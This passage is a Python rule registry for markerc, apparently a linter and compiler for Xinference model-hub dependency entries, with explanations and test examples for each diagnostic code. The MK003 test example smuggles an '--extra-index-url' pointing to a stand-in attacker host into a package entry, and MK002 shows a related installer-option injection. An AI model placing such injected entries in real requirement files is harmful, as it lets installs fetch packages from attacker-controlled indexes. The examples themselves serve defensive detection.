"""The registry of every diagnostic code: one :class:`Rule` object per code.

Everything else is generated from :data:`RULES`: ``markerc.diagnostics.CATALOGUE`` (the code ->
(severity, title) table every module raises through), the rule selection of ``markerc check``
(which codes exist, which are on by default, which have a fix) and ``docs/diagnostics.md``
(``python -m markerc.catalogue --write-docs``; a test fails when the file is stale).  Each rule's
``bad`` and ``fixed`` examples are data that the tests run: the bad one must give the code, the
fixed one must not.

Adding a code: append a ``Rule(...)`` in code order, then regenerate the docs.  Codes never change
meaning; new ones go at the end of their range (the ranges are shared between branches, see the
project's issue notes).  This module is data only (no imports from the rest of markerc), so that
``markerc.diagnostics`` can build its table from it at start-up; the records are immutable
named tuples, which cost a fraction of a frozen dataclass to define (``markerc check`` runs on
every commit).
"""

from __future__ import annotations

from typing import Literal, NamedTuple

Severity = Literal["error", "warning"]

__all__ = ["RULES", "Example", "Rule", "by_code", "render_docs"]


class Example(NamedTuple):
    """A runnable example.

    ``entries`` are the ``virtualenv.packages`` of a one-model hub file (``hub.json``), ``block``
    more members of that ``virtualenv`` block (JSON text), ``document`` the whole file instead.
    ``args`` is a markerc command line (``{hub}`` is the hub file, ``{wheels}`` a folder of the
    wheels named in ``wheels`` and the sdists named in ``sdists``, built by the tests; ``before``
    commands and ``edits`` prepare the folder); without ``args`` the example is
    ``markerc check {hub}`` with every rule selected.  ``files`` are more files written beside the
    hub, for example a ``pyproject.toml``.
    """

    entries: tuple[str, ...] = ()
    block: str = ""
    document: str | None = None
    args: tuple[str, ...] = ()
    files: tuple[tuple[str, str], ...] = ()
    wheels: tuple[str, ...] = ()
    note: str = ""
    #: markerc commands run first (each must exit 0), e.g. writing the locks a check compares
    before: tuple[tuple[str, ...], ...] = ()
    #: ``(path, old, new)`` text replacements made after ``before`` (a hand-edited lock)
    edits: tuple[tuple[str, str, str], ...] = ()
    #: sdists (``name==version``) put beside the wheels; their build backend must never run
    sdists: tuple[str, ...] = ()
    #: a folder (among ``files``) put first on ``PYTHONPATH`` (a stand-in ``uv`` package)
    pythonpath: str = ""
    #: the exit status of the command (default: 2 for a bad example of an error, else 0)
    exit: int | None = None
    #: ``(path, target)`` symlinks made after ``files`` (``target`` as ``os.symlink`` takes it)
    links: tuple[tuple[str, str], ...] = ()


class Rule(NamedTuple):
    """One diagnostic code.

    ``stages`` says which commands report it (``check``, ``compile``, ``lock``, ``cli``).  Errors
    that ``compile`` also reports are input errors: ``check`` always reports them, whatever the
    selection (``selectable`` is false), since a hub that compile refuses must not pass the hook.
    ``default`` says whether ``check`` reports a selectable rule without ``--select``; ``fix``
    describes what ``check --fix`` rewrites (None: no automatic fix).
    """

    code: str
    name: str
    severity: Severity
    title: str
    group: str
    explanation: str
    bad: Example
    fixed: Example
    stages: tuple[str, ...] = ("check",)
    default: bool = True
    fix: str | None = None

    @property
    def selectable(self) -> bool:
        return "check" in self.stages and not (
            self.severity == "error" and "compile" in self.stages
        )

    @property
    def fixable(self) -> bool:
        return self.fix is not None


def by_code() -> dict[str, Rule]:
    return {r.code: r for r in RULES}


_SYNTAX = "Entry syntax"
_MARKERS = "Marker semantics"
_HUB = "Hub structure"
_LINT = "Lint rules"
_CONFIG = "Check configuration"
_XI = "Xinference at launch"
_COMPILE = "Compile, lock and the command line"
_LOCK = "Lock matrix"
_REVIEW = "Review (diff, report)"
_LAUNCH = "Xinference launch and venvs"
_SAFETY = "Output safety"
_READING = "Strict reading, files and signals"
#: A target profile for the skip-installed examples: a Linux base that has gamma 1.0 installed.
_BASE_TARGET = (
    'name = "base"\nsys_platform = "linux"\npython_version = "3.11"\n[system]\ngamma = "1.0"\n'
)
_CC = ("check", "compile")

NOINDEX = ("--no-index", "--find-links", "{wheels}")

#: MK539's stand-in for the ``uv`` package: its ``find_uv_bin`` writes a script that answers
#: ``--version`` and then writes a log instead of a lock.
FAKE_UV = """\
import os, sys
def find_uv_bin():
    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "fake-uv")
    with open(path, "w") as fh:
        fh.write("#!" + sys.executable + "\\n"
                 "import sys\\n"
                 "args = sys.argv[1:]\\n"
                 "if args == ['--version']:\\n    print('uv 0.0.0-stand-in'); sys.exit(0)\\n"
                 "out = args[args.index('-o') + 1] if '-o' in args else 'pylock.toml'\\n"
                 "open(out, 'w').write('Resolving... done, see above\\\\n')\\n")
    os.chmod(path, 0o755)
    return path
"""


RULES: tuple[Rule, ...] = (
    # ------------------------------------------------------------------ entry syntax
    Rule(
        "MK001",
        "syntax-error",
        "error",
        "syntax error in an entry",
        _SYNTAX,
        "The entry does not parse (SPEC sections 3 and 4). The caret points at the first character "
        "the grammar cannot accept; common mistakes get a specific message (single `=`, an "
        "unterminated string, `!` for `not`, a stray `#`).",
        Example(('foo ; sys_platform = "linux"',), note="single '=' is not a comparison"),
        Example(('foo ; sys_platform == "linux"',)),
        stages=_CC,
    ),
    Rule(
        "MK002",
        "installer-option",
        "error",
        "entry would become an installer option (leading '-')",
        _SYNTAX,
        "In a requirements file a line starting with `-` is an option (`-r`, `-e`, "
        "`--index-url`), so a hub entry could make pip read other files or indexes. Installer "
        "options belong in block keys (`index_url`, `find_links`, ...).",
        Example(("-e git+https://github.com/org/pkg",)),
        Example(("git+https://github.com/org/pkg",)),
        stages=_CC,
    ),
    Rule(
        "MK003",
        "line-break-or-nul",
        "error",
        "entry smuggles a line break or NUL",
        _SYNTAX,
        "Each entry must stay one line of a requirements file; a line break would smuggle a second "
        "line (an installer option, another index) into it.",
        Example(("foo\n--extra-index-url https://evil.example",)),
        Example(("foo",)),
        stages=_CC,
    ),
    Rule(
        "MK004",
        "empty-or-comment",
        "error",
        "empty or comment-only entry",
        _SYNTAX,
        "An empty string, or one starting with `#` that is not a placeholder: pip reads it as "
        "nothing or as a comment, so the entry silently installs nothing. A placeholder whose "
        "closing `#` is missing is MK315 in `check`.",
        Example(("# pinned for the demo",)),
        Example(("#system_torch#",)),
        stages=_CC,
    ),
    Rule(
        "MK005",
        "too-long-or-deep",
        "error",
        "entry too long or too deeply nested",
        _SYNTAX,
        "More than 4096 characters, more than 64 nested parentheses or more than 64 `not`s: limits "
        "that keep the parser's time and memory bounded.",
        Example(("foo ; " + "(" * 65 + 'os_name == "nt"' + ")" * 65,), note="65 levels"),
        Example(('foo ; os_name == "nt"',)),
        stages=_CC,
    ),
    Rule(
        "MK006",
        "invalid-version-specifier",
        "error",
        "invalid version specifier",
        _SYNTAX,
        "A version specifier that PEP 440 rejects; pip and uv would refuse the requirement.",
        Example(("foo>=1.0.0.dev.x",)),
        Example(("foo>=1.0.0.dev0",)),
        stages=_CC,
    ),
    # ------------------------------------------------------------------ marker semantics
    Rule(
        "MK101",
        "unknown-variable",
        "error",
        "unknown marker variable",
        _MARKERS,
        "A variable that is neither PEP 508 nor markerc's (`has_cuda`, `has_npu`, "
        "`cuda_version`, `cuda_arch`, `#engine#`, `#name#` templates), with a suggestion; also "
        "standard variables written with hashes.",
        Example(('foo ; sys_platfrom == "linux"',), note="did you mean sys_platform?"),
        Example(('foo ; sys_platform == "linux"',)),
        stages=_CC,
    ),
    Rule(
        "MK102",
        "type-error",
        "error",
        "type error in a comparison",
        _MARKERS,
        "An operator or value that does not fit the variable's type: `#engine#` takes only `==`, "
        '`!=`, `in`, `not in`; booleans compare with `"true"`/`"false"`; `cuda_version` takes '
        "PEP 440 comparisons; `cuda_arch` takes `sm_<NN>[a|f]`; `~=` and `===` on string fields "
        "are refused (packaging refuses them).",
        Example(('foo ; has_cuda == "yes"',)),
        Example(("foo ; has_cuda",)),
        stages=_CC,
    ),
    Rule(
        "MK103",
        "unknown-engine",
        "error",
        "unknown engine",
        _MARKERS,
        "An engine literal in an `#engine#` comparison (each member of an `in` list), a "
        "`#<engine>_dependencies#` placeholder for an engine no table knows, or a record's "
        '`"engine"` key, with a suggestion from the engine table (built-in, `[tool.markerc]`, '
        "`--engines`).",
        Example(('foo ; #engine# == "vlm"',)),
        Example(('foo ; #engine# == "vllm"',)),
        stages=_CC,
    ),
    Rule(
        "MK104",
        "unknown-placeholder",
        "error",
        "unknown placeholder",
        _MARKERS,
        "A `#word#` head that is neither `#<engine>_dependencies#` nor `#system_<package>#`. "
        "Xinference passes it to pip, which fails at launch.",
        Example(("#torch#",)),
        Example(("#system_torch#",)),
        stages=_CC,
    ),
    Rule(
        "MK105",
        "comparison-operands",
        "error",
        "comparison needs one variable and one quoted value",
        _MARKERS,
        '`"a" == "b"`, `os_name == sys_platform`, or a quoted value standing alone: a '
        "comparison has exactly one variable and one quoted value.",
        Example(('foo ; "linux" == "linux"',)),
        Example(('foo ; sys_platform == "linux"',)),
        stages=_CC,
    ),
    Rule(
        "MK106",
        "extra-marker",
        "error",
        "extra, extras and dependency_groups have no meaning in a model-hub entry",
        _MARKERS,
        "Installers evaluate `extra` to false in a requirements file, so the entry would never be "
        "installed; ask for the extra in the requirement itself.",
        Example(('foo ; extra == "gpu"',)),
        Example(("foo[gpu]",)),
        stages=_CC,
    ),
    # ------------------------------------------------------------------ hub structure
    Rule(
        "MK201",
        "invalid-json",
        "error",
        "file is not valid UTF-8 JSON",
        _HUB,
        "At the first byte that is not UTF-8, or where the JSON parser stops (trailing commas, "
        "`NaN`, extra data). `check` exits 1 on it, `compile` 2.",
        Example(document='{"packages": ["a",]}\n'),
        Example(document='{"packages": ["a"]}\n'),
        stages=_CC,
    ),
    Rule(
        "MK202",
        "wrong-type",
        "error",
        "wrong type for a key",
        _HUB,
        "A block or model key with the wrong JSON type, a block without `packages`, a list item "
        "that is not a model object (SPEC section 2). `markerc schema` prints the JSON Schema of "
        "the structure.",
        Example(("foo",), block='"no_build_isolation": "yes"'),
        Example(("foo",), block='"no_build_isolation": true'),
        stages=_CC,
    ),
    Rule(
        "MK203",
        "invalid-index-strategy",
        "error",
        "invalid index strategy",
        _HUB,
        "`index_strategy` must be `first-index`, `unsafe-first-match` or `unsafe-best-match` "
        "(uv's names).",
        Example(("foo",), block='"index_strategy": "fastest"'),
        Example(("foo",), block='"index_strategy": "unsafe-best-match"'),
        stages=_CC,
    ),
    Rule(
        "MK204",
        "model-not-found",
        "error",
        "model or record not found",
        _HUB,
        "`--model NAME` names no model of the file; with a suggestion.",
        Example(("foo",), args=("compile", "{hub}", "--model", "dmeo", "--engine", "vllm")),
        Example(("foo",), args=("compile", "{hub}", "--model", "demo", "--engine", "vllm")),
        stages=("compile",),
    ),
    Rule(
        "MK205",
        "unreadable-file",
        "error",
        "cannot read file",
        _HUB,
        "A missing file, a folder, no permission. Exit status 2 in every command.",
        Example(("foo",), args=("check", "missing.json")),
        Example(("foo",), args=("check", "{hub}")),
        stages=_CC,
    ),
    # ------------------------------------------------------------------ lint rules (MK3xx)
    Rule(
        "MK301",
        "legacy-placeholder",
        "warning",
        "legacy placeholder without hashes",
        _LINT,
        "`<engine>_dependencies` (a known engine, no extras, specifiers or URL) is Xinference's "
        "old placeholder form (19 uses in the hub). It works in Xinference and markerc, but every "
        "other tool reads it as a package name. A style rule: off by default.",
        Example(('vllm_dependencies ; #engine# == "vllm"',)),
        Example(('#vllm_dependencies# ; #engine# == "vllm"',)),
        default=False,
        fix="adds the hashes: `#vllm_dependencies#`",
    ),
    Rule(
        "MK302",
        "engine-spelling",
        "warning",
        "non-canonical engine spelling",
        _LINT,
        "Engine names compare case-insensitively and through aliases, in markerc and in "
        'Xinference, so `"vLLM"`, `"Transformers"`, `"MLX"`, `"SGLang"` and '
        '`"llama_cpp"` work; the canonical spelling (the engine table\'s name) keeps a hub '
        "consistent and greppable. A style rule: off by default (the upstream hub uses the mixed "
        "spellings everywhere).",
        Example(('transformers>=5.2.0 ; #engine# == "Transformers"',)),
        Example(('transformers>=5.2.0 ; #engine# == "transformers"',)),
        default=False,
        fix="writes the engine table's name",
    ),
    Rule(
        "MK303",
        "placeholder-other-engine",
        "error",
        "placeholder guarded by another engine",
        _LINT,
        "The placeholder's marker is false for the placeholder's own engine, so markerc never "
        "expands it; Xinference ignores a placeholder's marker and expands it whenever the engine "
        "matches. The two disagree, so the model installs different packages at launch than "
        "markerc compiles.",
        Example(('#vllm_dependencies# ; #engine# == "sglang"',)),
        Example(('#vllm_dependencies# ; #engine# == "vllm"',)),
    ),
    Rule(
        "MK304",
        "engine-only-in-placeholder",
        "error",
        "engine named by a placeholder but never by a marker",
        _LINT,
        'Xinference lists a model\'s engines from `#engine# == "x"` markers only (research '
        "section 10): an LLM whose markers name other engines refuses to launch with an engine "
        "that only a placeholder names, and the engine is not offered. markerc compiles it either "
        "way.",
        Example(("#vllm_dependencies#", 'foo ; #engine# == "sglang"')),
        Example(('#vllm_dependencies# ; #engine# == "vllm"', 'foo ; #engine# == "sglang"')),
    ),
    Rule(
        "MK305",
        "duplicate-entry",
        "warning",
        "duplicate entry",
        _LINT,
        "The same entry twice in one block, after parsing (names compared by PEP 503, specifier "
        "order, spacing, quotes and engine spelling ignored). The later one is reported.",
        Example(("foo>=1", "bar", "Foo >= 1")),
        Example(("foo>=1", "bar")),
    ),
    Rule(
        "MK306",
        "unknown-block-key",
        "warning",
        "unknown block key",
        _LINT,
        "A key of the `virtualenv` block that neither markerc nor Xinference knows; it is ignored.",
        Example(("foo",), block='"index-url": "https://mirror.example/simple"'),
        Example(("foo",), block='"index_url": "https://mirror.example/simple"'),
        stages=_CC,
    ),
    Rule(
        "MK307",
        "insecure-index-url",
        "warning",
        "index URL over plain http",
        _LINT,
        "`index_url`, `extra_index_url` or `find_links` over `http://`: packages travel "
        "unauthenticated. Loopback hosts (`localhost`, `127.0.0.1`, `::1`) are exempt.",
        Example(("foo",), block='"index_url": "http://mirror.example/simple"'),
        Example(("foo",), block='"index_url": "https://mirror.example/simple"'),
    ),
    Rule(
        "MK308",
        "index-url-credentials",
        "warning",
        "index URL with credentials",
        _LINT,
        "A user name or password inside an index or find-links URL ends up in lock files, logs "
        "and the hub repository; keep credentials in netrc or a keyring. The diagnostic shows the "
        "URL as `https://***@host`.",
        Example(
            ("foo",), block='"extra_index_url": ["https://alice:s3cret@mirror.example/simple"]'
        ),
        Example(("foo",), block='"extra_index_url": ["https://mirror.example/simple"]'),
    ),
    Rule(
        "MK309",
        "torch-companion",
        "warning",
        "torch companion pinned to the system without torch",
        _LINT,
        "`#system_torchvision#`, `#system_torchaudio#` or `#system_torchcodec#` in a model with no "
        "`#system_torch#` and no `torch` requirement. The companion is built against one torch "
        "ABI; Xinference and markerc both add `#system_torch#` under the same condition "
        "(`--no-torch-companion` turns markerc's off). Say it explicitly.",
        Example(("#system_torchaudio#",)),
        Example(("#system_torch#", "#system_torchaudio#")),
    ),
    Rule(
        "MK310",
        "placeholder-misspelling",
        "error",
        "placeholder or pin spelling that Xinference does not resolve",
        _LINT,
        "Spaces inside the hashes (`# vllm_dependencies #`, `#system_torch #`, `# engine #`) or a "
        "wrong-case `#system_` prefix (`#System_torch#`). markerc reads them; Xinference and "
        "xoscar need the exact text: `#System_torch#` and `# vllm_dependencies #` reach pip and "
        "fail the launch, `#system_torch #` silently becomes an unpinned `torch` (research Q19). "
        "Case-only differences that Xinference tolerates are MK320.",
        Example(("#System_torch#",)),
        Example(("#system_torch#",)),
        fix="writes the canonical spelling (`#system_torch#`, `#vllm_dependencies#`, `#engine#`)",
    ),
    Rule(
        "MK311",
        "unbound-template",
        "error",
        "template variable that Xinference never binds",
        _LINT,
        "Xinference passes only `engine` and `model_engine` to the marker evaluator (and detects "
        "`has_cuda`, `has_npu`, `cuda_version`, `cuda_arch`). Any other `#name#` is unknown to it: "
        "xoscar's substitution leaves it in place, where it starts a Python comment and truncates "
        "the marker (research Q15). markerc treats it as a string variable bound with `--set "
        "name=VALUE` (an unbound one that a compile needs is MK501). Most often it is a misspelt "
        "`#engine#`; the message suggests the closest known variable.",
        Example(('foo ; #engie# == "vllm"',)),
        Example(('foo ; #engine# == "vllm"',)),
    ),
    Rule(
        "MK312",
        "misspelt-system-package",
        "error",
        "misspelt system package",
        _LINT,
        "`#system_X#` where X is one edit (two for long names) away from a package that system "
        "pins are for (`torch`, `torchvision`, `torchaudio`, `torchcodec`, `numpy`, `pandas`) or "
        "that the checked hub pins elsewhere. Neither tool finds the misspelt distribution: "
        "Xinference then installs the bare name from the index (a package that does not exist, "
        "or a typo-squatted one), markerc stops with MK504.",
        Example(("#system_tourch#",), note="did you mean #system_torch#?"),
        Example(("#system_torch#",)),
    ),
    Rule(
        "MK313",
        "unknown-system-package",
        "warning",
        "system pin of an unusual package",
        _LINT,
        "`#system_X#` for a package that is neither one of the six the hub pins to the base "
        "environment (`torch`, `torchvision`, `torchaudio`, `torchcodec`, `numpy`, `pandas`) nor "
        "pinned by any other model of the checked files. It works where X is installed in the "
        "base environment; elsewhere Xinference installs X unpinned and markerc stops with MK504. "
        "A warning: say it on purpose or ignore the rule for the file.",
        Example(("#system_flash_attn#",)),
        Example(("#system_numpy#",)),
    ),
    Rule(
        "MK314",
        "bare-system-pin",
        "error",
        "system pin written without hashes",
        _LINT,
        "`system_numpy` without the hashes is not a pin: every tool, Xinference and markerc "
        "included, reads it as a package literally called `system_numpy` and tries to install "
        "it. Reported when the rest of the name is a package that system pins are for or that "
        "the hub pins elsewhere.",
        Example(("system_numpy",)),
        Example(("#system_numpy#",)),
        fix="adds the hashes: `#system_numpy#`",
    ),
    Rule(
        "MK315",
        "unclosed-placeholder",
        "error",
        "placeholder without its closing '#'",
        _LINT,
        "`#vllm_dependencies ; ...` or `#system_torch`: the closing `#` is missing, so markerc "
        "reads a comment-only entry (MK004) and Xinference passes the text to pip, which fails at "
        "launch. Reported instead of MK004, with the suggestion.",
        Example(('#vllm_dependencies ; #engine# == "vllm"',)),
        Example(('#vllm_dependencies# ; #engine# == "vllm"',)),
        fix="adds the closing `#`",
    ),
    Rule(
        "MK316",
        "cuda-major-equality",
        "error",
        "cuda_version compared with a major version only",
        _LINT,
        '`cuda_version == "12"` is true only for CUDA 12.0: PEP 440 pads `"12"` with zeros, '
        'in markerc and in Xinference alike, so 12.4 and 12.8 do not match (and `!= "12"` '
        'holds for them). CUDA versions are major.minor; `"12.*"` is the 12 series.',
        Example(('foo ; cuda_version == "12"',)),
        Example(('foo ; cuda_version == "12.*"',)),
    ),
    Rule(
        "MK317",
        "impossible-comparison",
        "error",
        "comparison that no real value satisfies",
        _LINT,
        "A comparison whose result is the same for every real value of its variable: "
        "`cuda_version` is a CUDA version major.minor (`torch.version.cuda`, nvidia-smi), so "
        '`== "12.4.1"`, `== "12.8rc1"` and `~= "12.4.1"` are never true and `!=` of them '
        'always; `cuda_arch` is `sm_<major><minor>` with a major of at least 1, so `== "sm_9"` '
        "is never true. The comparison is a mistake in either tool.",
        Example(('foo ; cuda_version == "12.4.1"',)),
        Example(('foo ; cuda_version == "12.4"',)),
    ),
    Rule(
        "MK318",
        "always-false-marker",
        "error",
        "marker that is always false",
        _LINT,
        "No environment satisfies the marker, so the entry is never installed: "
        '`cuda_version >= "12.4" and cuda_version < "12.0"`, `#engine# == "vllm" and '
        '#engine# == "sglang"`. Decided by markerc\'s marker algebra (`residual`) for every '
        "combination of the markerc variables' real values (each engine of the table, the "
        "booleans, CUDA versions and architectures, unset included); where that cannot decide, "
        "nothing is reported.",
        Example(('foo ; cuda_version >= "12.4" and cuda_version < "12.0"',)),
        Example(('foo ; cuda_version >= "12.4" and cuda_version < "13.0"',)),
    ),
    Rule(
        "MK319",
        "always-true-marker",
        "warning",
        "marker that is always true",
        _LINT,
        "Every environment satisfies the marker, so it says nothing (`has_cuda or not has_cuda`, "
        "an `in` list of every engine). Usually a condition was meant; otherwise drop the marker. "
        "Decided as for MK318.",
        Example(("foo ; has_cuda or not has_cuda",)),
        Example(("foo ; has_cuda",)),
    ),
    Rule(
        "MK320",
        "spelling-case",
        "warning",
        "non-canonical case of a placeholder or variable",
        _LINT,
        "`#VLLM_Dependencies#`, `#ENGINE#`, `#Model_Engine#`: Xinference and markerc lower-case "
        "them, so they work; the lower-case spelling keeps the hub consistent. A style rule: off "
        "by default. Spellings Xinference does not resolve are MK310.",
        Example(('foo ; #ENGINE# == "vllm"',)),
        Example(('foo ; #engine# == "vllm"',)),
        default=False,
        fix="writes the lower-case spelling",
    ),
    # ------------------------------------------------------------------ configuration
    Rule(
        "MK339",
        "invalid-check-config",
        "error",
        "invalid check configuration or rule selector",
        _CONFIG,
        "An unknown rule code or prefix in `--select`, `--ignore`, `--extend-select` or "
        "`--per-file-ignores`, or in `[tool.markerc.check]` of `pyproject.toml` / `[check]` of "
        "`markerc.toml` (found from the checked file upwards); an unknown key or a wrong type "
        "there. Located in the configuration file where possible; exit status 2.",
        Example(
            ("foo",),
            args=("check", "{hub}"),
            files=(("pyproject.toml", '[tool.markerc.check]\nselect = ["MK999"]\n'),),
        ),
        Example(
            ("foo",),
            args=("check", "{hub}"),
            files=(("pyproject.toml", '[tool.markerc.check]\nselect = ["MK4"]\n'),),
        ),
        stages=("cli",),
    ),
    # ------------------------------------------------------------------ Xinference at launch
    Rule(
        "MK401",
        "xinference-engine-filter",
        "error",
        "Xinference's textual engine filter misreads this marker",
        _XI,
        "Xinference's pre-filter (`filter_virtualenv_packages_by_markers`, research section 6) "
        "keeps an entry whose marker mentions `#engine#` only if the lower-cased marker contains "
        'the exact text `#engine# == "<engine>"` (or `#model_engine# == "<engine>"` / '
        "`'<engine>'`). Single quotes with `#engine#`, other spacing, `!=`, `in`, reversed "
        "operands and spaced hashes are never recognised: Xinference drops the entry for every "
        "engine. The message names the engines each tool keeps the entry for.",
        Example(("foo ; #engine# == 'vllm'",)),
        Example(('foo ; #engine# == "vllm"',)),
        fix='rewrites the comparison in the form both read alike (`#engine# == "vllm"`; an '
        "`in` list as an `or` of such comparisons); `!=` is left to you (its rewrite depends on "
        "the engine table)",
    ),
    Rule(
        "MK402",
        "xinference-ignores-or-not",
        "error",
        "Xinference's engine filter ignores or/not in this marker",
        _XI,
        "In a marker that mentions `#engine#` or `cuda_version`, Xinference tests each term it "
        "recognises and joins them with `and`, whatever the `or`, `not` and parentheses say. An "
        "`or` made only of recognised engine comparisons happens to work and is not reported. "
        "Split the entry so that each marker is a plain conjunction.",
        Example(('foo ; #engine# == "vllm" or sys_platform == "darwin"',)),
        Example(('foo ; #engine# == "vllm"', 'foo ; sys_platform == "darwin"')),
    ),
    Rule(
        "MK403",
        "xinference-merge-drop",
        "warning",
        "Xinference's merge drops this unconditional entry",
        _XI,
        "Xinference's merge (`merge_virtual_env_packages`, research 5.2) keys entries by a textual "
        "package name and lets an engine-specific entry replace an earlier unconditional one of "
        "the same key: the package is then lost for every other engine (Qwen3-ASR loses "
        "`qwen-asr` off vLLM). The same happens to an engine's default list: an entry for "
        "another engine replaces the default of that name, then is filtered out (`ninja ; "
        '#engine# == "vllm"` takes `ninja` away from sglang). markerc keeps both (SPEC section '
        "8). A warning, not an error: the entries are right and the upstream hub has seven of "
        "these; the loss is Xinference's.",
        Example(("qwen-asr", 'qwen-asr[vllm] ; #engine# == "vllm"')),
        Example(('qwen-asr ; #engine# == "transformers"', 'qwen-asr[vllm] ; #engine# == "vllm"')),
    ),
    Rule(
        "MK404",
        "xinference-cuda-filter",
        "error",
        "Xinference's CUDA filter misreads this marker",
        _XI,
        'Xinference\'s CUDA test reads only `cuda_version <op> "<version>"` with the variable on '
        "the left, and drops any entry with a `cuda_version` term when no CUDA is detected. So a "
        'reversed comparison (`"12.0" <= cuda_version`) is ignored (the entry is kept even '
        'without CUDA), and `cuda_version != "13.0"` drops the entry on machines without CUDA, '
        "where markerc (unset `cuda_version` makes `!=` true) keeps it (research Q4, Q5).",
        Example(('foo ; "12.0" <= cuda_version',)),
        Example(('foo ; cuda_version >= "12.0"',)),
        fix="writes a reversed comparison with the variable on the left",
    ),
    Rule(
        "MK405",
        "xinference-merge-last-wins",
        "warning",
        "Xinference's merge keeps only the last entry of a package key",
        _XI,
        "Xinference's merge ignores non-engine markers, so of two entries with the same package "
        "key only the last survives (research Q8): platform variants collapse. markerc keeps "
        "both, each under its marker. Exact duplicates are MK305 instead.",
        Example(('x ; sys_platform == "linux"', 'x ; sys_platform == "darwin"')),
        Example(('x ; sys_platform == "linux" or sys_platform == "darwin"',)),
    ),
    Rule(
        "MK406",
        "xinference-ignores-term",
        "error",
        "Xinference ignores this marker term",
        _XI,
        "Once a marker mentions `#engine#` or `cuda_version`, Xinference's pre-filter evaluates "
        "only engine, `cuda_version`, `sys_platform` and two literal `platform_machine` tests, "
        "and throws the rest of the marker away (`python_version`, `has_cuda`, `cuda_arch`, "
        "`platform_system`, ...; research Q4): the entry is installed whatever those terms say. "
        "Xinference also ignores a placeholder's whole marker beyond the engine (Q11).",
        Example(('foo ; #engine# == "vllm" and python_version >= "3.10"',)),
        Example(('foo ; #engine# == "vllm"',)),
    ),
    # ------------------------------------------------------------------ compile
    Rule(
        "MK501",
        "unbound-variable",
        "error",
        "unbound variable",
        _COMPILE,
        "A template or custom variable the marker still needs after folding has no value for the "
        "target; the message names the flag that binds it (`--set`, `--target`).",
        Example(('x ; cuda_version < "13.0"',), args=("compile", "{hub}", "--engine", "sglang")),
        Example(
            ('x ; cuda_version < "13.0"',),
            args=("compile", "{hub}", "--engine", "sglang", "--set", "cuda_version=12.8"),
        ),
        stages=("compile",),
    ),
    Rule(
        "MK502",
        "conflicting-requirements",
        "error",
        "conflicting requirements for one name where their conditions overlap",
        _COMPILE,
        "Two requirement lines of one model for the same PEP 503 name whose conditions can both "
        "hold (decided exactly by the marker algebra, whatever the spelling of the markers) and "
        "whose specifiers no version satisfies together (pre-releases included), or that name two "
        "different URLs; also one entry whose own specifiers are unsatisfiable (`foo>2,<1`). The "
        "compile reports it whether the target is bound or not: both entries are cited with their "
        "positions, and the message names the condition where both hold.",
        Example(("foo<1", "foo>2")),
        Example(('foo<1 ; #engine# == "vllm"', 'foo>2 ; #engine# == "sglang"')),
        stages=_CC,
    ),
    Rule(
        "MK503",
        "no-exact-complement",
        "error",
        "residual marker has no PEP 508 form",
        _COMPILE,
        "After partial evaluation and overrides, the exact condition under which a line applies "
        "cannot be written in PEP 508 (SPEC section 8); markerc stops rather than approximate. "
        "Only the *final* condition matters: an override whose condition is disjoint from the "
        "entry it would narrow leaves that entry unchanged. Typical causes: the complement of a "
        "version comparison on `platform_release` (which also holds strings that are not "
        'versions), of `> "V"` (which excludes the post-releases of V), or of a reversed '
        'comparison such as `"3.9" < python_version`. The message names the entries and the '
        "condition.",
        Example(
            ("foo>=1",),
            args=("compile", "{hub}", "--engine", "vllm", "-p", 'foo ; platform_release >= "5.4"'),
        ),
        Example(
            ("foo>=1",),
            args=("compile", "{hub}", "--engine", "vllm", "-p", 'foo ; sys_platform == "linux"'),
        ),
        stages=("compile",),
    ),
    Rule(
        "MK504",
        "missing-system-package",
        "error",
        "system package missing on the target",
        _COMPILE,
        "`#system_X#` where the target has no X; `--system-missing unpinned` emits the bare name "
        "instead.",
        Example(("#system_torch#",), args=("compile", "{hub}", "--engine", "vllm")),
        Example(
            ("#system_torch#",),
            args=("compile", "{hub}", "--engine", "vllm", "--system", "torch=2.8.0"),
        ),
        stages=("compile",),
    ),
    Rule(
        "MK505",
        "invalid-table",
        "error",
        "invalid target or engine table",
        _COMPILE,
        "A target profile or engine table that is not valid TOML or has wrong keys.",
        Example(
            ("foo",),
            args=("compile", "{hub}", "--engine", "vllm", "--engines", "engines.toml"),
            files=(("engines.toml", '[engines.vllm]\nindex_strategy = "fastest"\n'),),
        ),
        Example(
            ("foo",),
            args=("compile", "{hub}", "--engine", "vllm", "--engines", "engines.toml"),
            files=(("engines.toml", '[engines.vllm]\nindex_strategy = "unsafe-best-match"\n'),),
        ),
        stages=("compile",),
    ),
    Rule(
        "MK506",
        "resolver-failed",
        "error",
        "resolver failed",
        _COMPILE,
        "The resolver (uv, or pip-compile) could not resolve a locked requirement set; its "
        "deciding message follows. Also reported when uv, which `lock` and `install` run, is not "
        "installed: it is the extra `pip install 'markerc[lock]'` (`markerc check` does not need it).",
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--out",
                "locks",
                "--no-index",
                "--find-links",
                "{wheels}",
                "--format",
                "requirements",
            ),
            note="no wheel of alpha in the folder",
        ),
        Example(
            ("alpha",),
            args=(
                "lock",
                "{hub}",
                "--engine",
                "vllm",
                "--out",
                "locks",
                "--no-index",
                "--find-links",
                "{wheels}",
                "--format",
                "requirements",
            ),
            wheels=("alpha==1.0",),
        ),
        stages=("lock",),
    ),
    Rule(
        "MK507",
        "usage-error",
        "error",
        "usage error",
        _COMPILE,
        "A command-line mistake that the argument parser cannot see (it reports its own, such as "
        "an unknown option, as `markerc: error: ...`). Exit status 2 in every command.",
        Example(("foo",), args=("explain", "{hub}", "--engine", "vllm")),
        Example(("foo",), args=("explain", "{hub}", "--engine", "vllm", "--model", "demo")),
        stages=("cli",),
    ),
    # ------------------------------------------------------------------ marker algebra
    Rule(
        "MK520",
        "marker-value-not-writable",
        "error",
        "marker value that PEP 508 text cannot carry",
        _COMPILE,
        "A residual marker would have to write a quoted value that pip and uv do not read alike: a "
        "backslash (packaging decodes Python escapes, uv takes the text literally, PEP 508 defines "
        "none), a character that is not printable, or both kinds of quote. markerc reads escapes in "
        'the hub as packaging does, so `"C:\\\\"` is the value `C:\\`; it refuses to write it back.',
        Example(
            ("foo ; platform_version == 'C:\\\\temp'",),
            args=("compile", "{hub}", "--engine", "vllm"),
        ),
        Example(
            ("foo ; platform_version == 'C:/temp'",), args=("compile", "{hub}", "--engine", "vllm")
        ),
        stages=("compile",),
    ),
    Rule(
        "MK521",
        "marker-too-complex",
        "error",
        "marker too complex to decide",
        _COMPILE,
        'More than 8 different substring tests (`"x" in VAR`) on one variable in the markers that '
